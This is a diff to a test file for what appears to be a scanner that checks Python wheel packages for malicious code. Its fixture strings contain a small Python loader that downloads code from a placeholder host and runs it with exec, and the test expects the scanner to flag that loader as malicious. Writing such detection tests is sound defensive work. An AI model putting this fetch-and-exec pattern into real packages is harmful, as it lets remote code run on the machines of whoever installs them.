@@ -105,7 +105,7 @@ describe('what was not read is told', () => {
   test('tests whose functions nothing enters', async () => {
     const load = 'import requests\ndef load(x):\n  exec(requests.get(x).text)\n';
     const alone = await lookIntoWheel({
-      'acme/__init__.py': 'import os\n',
+      'acme/__init__.py': 'import subprocess\n',
       'acme/tests/a.py': load,
       'acme/tests/b.py': `${load}load("https://files.example.invalid/x")\n`,
     });
@@ -113,7 +113,8 @@ describe('what was not read is told', () => {
     // What their own module level calls is followed all the same.
     expect(alone.evidence.map(({ file, when }) => [file, when])).toEqual([['acme/tests/b.py', 'called']]);
     const entered = await lookIntoWheel({
-      'acme/__init__.py': 'import os\nfrom .tests.a import load\nload("https://files.example.invalid/x")\n',
+      'acme/__init__.py':
+        'import subprocess\nfrom .tests.a import load\nload("https://files.example.invalid/x")\n',
       'acme/tests/a.py': load,
     });
     expect(entered).toMatchObject({ verdict: 'malicious', limits: [] });
